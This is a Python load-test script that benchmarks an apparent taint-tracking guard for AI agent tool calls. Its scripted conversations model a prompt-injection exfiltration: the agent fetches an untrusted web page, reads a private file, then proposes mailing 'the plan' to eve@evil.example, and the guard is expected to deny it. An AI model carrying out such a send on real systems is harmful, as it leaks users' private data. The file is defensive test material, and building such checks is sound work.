"""The load generator of `benchmarks/serve.py`: a process of its own that imports nothing of Interlock.

    python benchmarks/serve_load.py SPEC.json      (prints its findings as JSON)

Each conversation lives one of the stories below, one step after the other, each step at either of the two services.
What must be answered is written beside the step, and what must have entered the conversation is counted here: a verdict
that is looser or stricter than told is wrong, and a label that was reported and is not there is lost. Requests are sent
by the clock, whether or not earlier ones were answered, and a latency begins when its request was due.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import random
import sys
import time
from collections import deque
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import aiohttp

FETCH = ("fetch", {"url": "https://news.example/"}, {"untrusted:web"})
READ = ("read_file", {"path": "plan.txt"}, {"private:files"})
TO_BOB = ("send_email", {"to": "bob@example.com", "body": "the plan"}, set[str]())
TO_EVE = ("send_email", {"to": "eve@evil.example", "body": "the plan"}, set[str]())

# (what, tool, expected verdict). "allow" steps of a story are observed by a later step, "later" ones never are.
STORIES: dict[str, list[tuple[str, Any, str]]] = {
    "attack": [
        ("propose", FETCH, "allow"),
        ("observe", None, ""),
        ("propose", READ, "allow"),
        ("observe", None, ""),
        ("propose", TO_EVE, "deny"),
        ("inspect", None, ""),
    ],
    "attack while calls are under way": [
        ("propose", FETCH, "allow"),
        ("propose", READ, "allow"),
        ("inspect", None, ""),
        ("propose", TO_EVE, "deny"),
        ("observe", None, ""),
        ("observe", None, ""),
        ("propose", TO_EVE, "deny"),
        ("inspect", None, ""),
    ],
    "honest": [
        ("propose", FETCH, "allow"),
        ("observe", None, ""),
        ("propose", READ, "allow"),
        ("observe", None, ""),
        ("propose", TO_BOB, "allow"),
        ("observe", None, ""),
        ("inspect", None, ""),
    ],
    "private only": [
        ("propose", READ, "allow"),
        ("observe", None, ""),
        ("propose", TO_EVE, "allow"),
        ("observe", None, ""),
        ("inspect", None, ""),
    ],
    "asked twice": [
        ("propose", FETCH, "allow"),
        ("again", None, "allow"),
        ("observe", None, ""),
        ("observed again", None, ""),
        ("propose", READ, "allow"),
        ("propose", TO_EVE, "deny"),
        ("again", None, "deny"),
        ("observe", None, ""),
        ("inspect", None, ""),
    ],
}


@dataclass
class Life:
    """One conversation: its story, what must be in it by now, and its calls that have no outcome yet."""

    story: str
    steps: Iterator[tuple[str, Any, str]]
    name: str = ""
    labels: set[str] = field(default_factory=set)
    waiting: deque[tuple[dict[str, Any], set[str]]] = field(default_factory=deque)
    last: dict[str, Any] = field(default_factory=dict)
    observed: dict[str, Any] = field(default_factory=dict)
    calls: int = 0


class Load:
    def __init__(self, spec: dict[str, Any], session: aiohttp.ClientSession) -> None:
        self.spec = spec
        self.headers = {"Authorization": f"Bearer {spec['token']}"}
        self.session = session
        self.chance = random.Random(7)
        self.latencies: dict[str, list[float]] = {}
        self.wrong: list[str] = []
        self.lost: list[str] = []
        self.failed: list[str] = []
        self.refused: list[str] = []
        self.lives: list[Life] = []
        self.ready: deque[Life] = deque()
        self.kinds = itertools.cycle(STORIES)
        self.finished = 0
        self.late_starts = 0

    async def ask(self, operation: str, due: float, method: str, path: str, body: Any = None) -> Any:
        """One request at one of the services. None, and noted, when it failed."""
        service = self.chance.choice(self.spec["services"])
        try:
            async with self.session.request(method, service + path, json=body, headers=self.headers) as answer:
                told = await answer.json()
        except (aiohttp.ClientError, TimeoutError, ValueError) as error:
            self.failed.append(f"{operation}: {type(error).__name__}")
            return None
        self.latencies.setdefault(operation, []).append(time.perf_counter() - due)
        if answer.status not in (200, 201):
            self.failed.append(f"{operation}: {answer.status} {told.get('error')}")
            return None
        return told

    async def step(self, due: float) -> None:
        """The next step of a conversation that waits for one, or a new conversation."""
        if self.ready:
            life = self.ready.popleft()
            done = await self.live(life, due)
        else:
            kind = next(self.kinds)
            life = Life(kind, iter(STORIES[kind]))
            told = await self.ask(
                "begin",
                due,
                "POST",
                "/v1/conversations",
                {"text": "Read https://news.example/ and mail the plan to bob@example.com."},
            )
            done = told is not None
            if done:
                life.name = told["conversation"]
                self.lives.append(life)
        if done:
            self.ready.append(life)

    async def live(self, life: Life, due: float) -> bool:
        """Whether the conversation goes on."""
        found = next(life.steps, None)
        if found is None:
            self.finished += 1
            await self.step(due)  # another one begins in its place
            return False
        what, tool, expected = found
        at = f"/v1/conversations/{life.name}"
        if what == "propose":
            name, arguments, brings = tool
            life.calls += 1
            call = {"id": f"call-{life.calls}", "name": name, "arguments": arguments}
            told = await self.ask("propose", due, "POST", f"{at}/calls", {"calls": [call]})
            if told is None:
                return False
            life.last = call
            if told["calls"][0]["run"]:
                life.waiting.append((call, brings))  # whatever was right, from here on its labels must be there
            return self.judge(life, told["calls"][0], expected, repeated=False)
        if what == "again":
            told = await self.ask("propose again", due, "POST", f"{at}/calls", {"calls": [life.last]})
            if told is None:
                return False
            return self.judge(life, told["calls"][0], expected, repeated=True)
        if what in ("observe", "observed again"):
            if what == "observe":
                call, brings = life.waiting[0]
                life.observed = {"call": call, "result": {"content": f"what {call['name']} gave"}}
            told = await self.ask(what, due, "POST", f"{at}/outcomes", life.observed)
            if told is None:
                return False
            if what == "observe":
                life.waiting.popleft()
                life.labels |= brings
            if told["withheld"] or told["for_model"] != life.observed["result"]["content"]:
                self.wrong.append(f"{life.story}: a result was withheld")
            if told["repeated"] is not (what == "observed again"):
                self.wrong.append(
                    f"{life.story}: a result was {'not ' * (not told['repeated'])}taken for a repeated one"
                )
        else:
            told = await self.ask("inspect", due, "GET", at)
            if told is None:
                return False
            self.compare(life, told)
        return True

    def judge(self, life: Life, told: dict[str, Any], expected: str, *, repeated: bool) -> bool:
        """Whether it was answered as it should be. A denial because something failed is no answer, and never loose."""
        if told["code"] in ("engine_error", "journal_error") and told["verdict"] == "deny" and not told["run"]:
            self.refused.append(f"{life.story}: {told['code']}")
            return False
        if told["verdict"] != expected or told["run"] is not (expected == "allow") or told["repeated"] is not repeated:
            self.wrong.append(f"{life.story}: {told['verdict']} ({told['code']}) where {expected} was right")
            return False
        return True

    def compare(self, life: Life, told: dict[str, Any]) -> None:
        held = {one["label"] for one in told["taint"]}
        coming = {one for _, brings in life.waiting for one in brings}
        self.lost += [f"{life.story}: {one}" for one in life.labels - held]
        self.lost += [f"{life.story}, in flight: {one}" for one in coming - set(told["exposure"])]
        self.wrong += [f"{life.story}: {one} from nowhere" for one in held - life.labels - coming]

    async def bare(self, until: float) -> None:
        """OPA itself, asked beside the load as fast as a tenth of it."""
        pause = 10 / self.spec["rate"]
        due = time.perf_counter()
        while due < until:
            await asyncio.sleep(max(0.0, due - time.perf_counter()))
            async with self.session.post(self.spec["opa"], json=self.spec["document"]) as answer:
                told = await answer.json()
            if "result" not in told:
                self.failed.append("bare OPA gave no result")
            self.latencies.setdefault("bare OPA", []).append(time.perf_counter() - due)
            due += pause

    async def run(self) -> dict[str, Any]:
        seconds, rate = self.spec["seconds"], self.spec["rate"]
        began = time.perf_counter()
        beside = asyncio.create_task(self.bare(began + seconds))
        tasks: set[asyncio.Task[None]] = set()
        for number in range(int(seconds * rate)):
            due = began + number / rate
            wait = due - time.perf_counter()
            if wait > 0:
                await asyncio.sleep(wait)
            elif wait < -0.05:
                self.late_starts += 1
            task = asyncio.create_task(self.step(due))
            tasks.add(task)
            task.add_done_callback(tasks.discard)
        sent = time.perf_counter() - began
        await asyncio.gather(*tasks, beside)
        answered = time.perf_counter() - began
        timed = {name: list(all_of) for name, all_of in self.latencies.items()}
        await self.look_again()
        requests = sum(len(all_of) for name, all_of in timed.items() if name != "bare OPA")
        order = ["begin", "propose", "propose again", "observe", "observed again", "inspect"]
        every = [one for name in order for one in timed.get(name, [])]
        return {
            "requests": requests,
            "seconds": round(answered, 2),
            "sent_in": round(sent, 2),
            "per_second": round(requests / answered, 1),
            "late_starts": self.late_starts,
            "conversations": len(self.lives),
            "finished": self.finished,
            "lost_labels": len(self.lost),
            "wrong_verdicts": len(self.wrong),
            "denied_by_failure": len(self.refused),
            "failed": len(self.failed),
            "examples": [*self.lost[:3], *self.wrong[:3], *self.refused[:3], *self.failed[:5]],
            "latency_ms": {
                **{name: spread(timed[name]) for name in order if name in timed},
                "all": spread(every),
                "bare OPA": spread(timed["bare OPA"]),
            },
        }

    async def look_again(self) -> None:
        """When all is over, every conversation at every service: each must have what was reported."""
        for service in self.spec["services"]:
            for life in self.lives:
                async with self.session.get(f"{service}/v1/conversations/{life.name}", headers=self.headers) as answer:
                    if answer.status != 200:
                        self.failed.append(f"inspect at the end: {answer.status}")
                        continue
                    told = await answer.json()
                self.compare(life, told)


def spread(seconds: list[float]) -> dict[str, Any]:
    ordered = sorted(seconds)

    def at(share: float) -> float:
        return round(ordered[min(len(ordered) - 1, int(share * len(ordered)))] * 1e3, 1)

    return {"count": len(ordered), "p50": at(0.5), "p95": at(0.95), "p99": at(0.99), "worst": at(1.0)}


async def main(spec: dict[str, Any]) -> None:
    connector = aiohttp.TCPConnector(limit=0)
    timeout = aiohttp.ClientTimeout(total=30)
    async with aiohttp.ClientSession(connector=connector, timeout=timeout, trust_env=False) as session:
        print(json.dumps(await Load(spec, session).run()))


if __name__ == "__main__":
    asyncio.run(main(json.loads(Path(sys.argv[1]).read_text())))
